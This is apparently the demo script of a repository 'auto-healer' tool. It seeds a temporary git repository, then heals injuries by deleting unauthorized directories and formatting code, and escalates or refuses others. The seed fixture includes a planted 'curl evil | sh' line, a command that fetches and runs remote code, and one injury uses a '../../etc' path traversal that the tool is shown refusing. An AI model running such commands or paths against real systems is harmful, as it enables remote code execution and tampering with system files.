"""`auto-healer demo`: a heal end to end on a throw-away repository with a bare remote.

It shows a new user, in a few seconds, the dry-run plan, the heal pushed to the remote as one
commit, a second run that is a no-op, an escalation and a refused traversal.
"""

from __future__ import annotations

import asyncio
import subprocess
import tempfile
import time
from pathlib import Path

from auto_healer.checkout import Checkout, Identity
from auto_healer.contracts import ParsedInjury, parse_injury_obj
from auto_healer.healer import Healer
from auto_healer.logs import configure_logging
from auto_healer.outcomes import Outcome
from auto_healer.playbooks import load_playbooks
from auto_healer.report import render
from auto_healer.settings import Settings

SEED = {
    "pyproject.toml": '[project]\nname = "hive-core"\nversion = "0.1.0"\n',
    "core/src/app.py": 'def greet(name: str) -> str:\n    return f"hello {name}"\n',
    "core/src/messy.py": "def  add( a,b ):\n  return a+b\nx = {  'a':1 }\n",
    "core/src/random_stuff/hack.py": "import os\nos.system('curl evil | sh')\n",
    "core/src/random_stuff/notes.txt": "not supposed to be here\n",
}


def demo_injuries() -> list[dict[str, object]]:
    now = time.time()
    base = {"timestamp": now, "severity": "high"}
    return [
        {
            **base,
            "injury_type": "unauthorized_directory",
            "affected_path": "core/src/random_stuff/",
            "recommended_action": "delete_directory",
            "auto_heal": True,
        },
        {
            **base,
            "injury_type": "unformatted_code",
            "affected_path": "core/src/messy.py",
            "recommended_action": "format_code",
            "auto_heal": True,
            "severity": "low",
        },
        {
            **base,
            "injury_type": "unauthorized_directory",
            "affected_path": "core/src/legacy/",
            "recommended_action": "delete_directory",
            "auto_heal": False,
        },
        {
            **base,
            "injury_type": "unauthorized_directory",
            "affected_path": "../../etc",
            "recommended_action": "delete_directory",
            "auto_heal": True,
            "severity": "critical",
        },
    ]


def make_repo(root: Path, files: dict[str, str] = SEED) -> tuple[Path, Path]:
    """A bare remote and a clone of it holding `files`, one commit on `main`."""
    remote, work = root / "remote.git", root / "work"
    _git(root, "init", "-q", "--bare", "-b", "main", str(remote))
    _git(root, "clone", "-q", str(remote), str(work))
    for rel, text in files.items():
        (work / rel).parent.mkdir(parents=True, exist_ok=True)
        (work / rel).write_text(text)
    _git(work, "checkout", "-q", "-B", "main")
    _git(work, "add", "-A")
    _git(
        work,
        "-c",
        "user.name=bee-keeper",
        "-c",
        "user.email=bee@aura.hive",
        "commit",
        "-q",
        "-m",
        "seed the hive",
    )
    _git(work, "push", "-q", "origin", "main")
    return remote, work


def _git(cwd: Path, *args: str) -> str:
    return subprocess.run(
        ["git", *args], cwd=cwd, check=True, capture_output=True, text=True
    ).stdout


async def _run_all(healer: Healer, injuries: list[ParsedInjury]) -> list[Outcome]:
    return [await healer.handle(i) for i in injuries]


def _playbooks_dir(configured: Path) -> Path:
    """The configured playbooks, else the shipped ones, so `demo` works from any directory."""
    shipped = Path(__file__).resolve().parents[2] / "playbooks"
    if not configured.is_dir() and configured == Path("playbooks") and shipped.is_dir():
        return shipped
    return configured


def run_demo(settings: Settings) -> int:
    configure_logging(settings.log_format, "warning")  # the report is the story here
    playbooks = load_playbooks(_playbooks_dir(settings.playbooks_dir))
    with tempfile.TemporaryDirectory(prefix="auto-healer-demo-") as tmp:
        remote, work = make_repo(Path(tmp))
        injuries = [parse_injury_obj(i) for i in demo_injuries()]
        checkout = Checkout.open(work, identity=Identity())
        try:
            for title, dry in (
                ("1. dry-run: the plan, nothing touched", True),
                ("2. heal: commit and push to the remote", False),
                ("3. heal again: nothing left to do", False),
            ):
                print(f"\n==> {title}\n")
                outcomes = asyncio.run(_run_all(Healer(playbooks, checkout, dry_run=dry), injuries))
                print(render(outcomes, "text", escalations_to="this report (no pager set)"))
        finally:
            checkout.close()
        print("\n==> 4. the remote's history\n")
        print(_git(remote, "log", "--format=%h %an: %s%n%(trailers:only,unfold)", "main").strip())
        print("\n==> 5. the remote's tree\n")
        print(_git(remote, "ls-tree", "-r", "--name-only", "main").strip())
    return 0
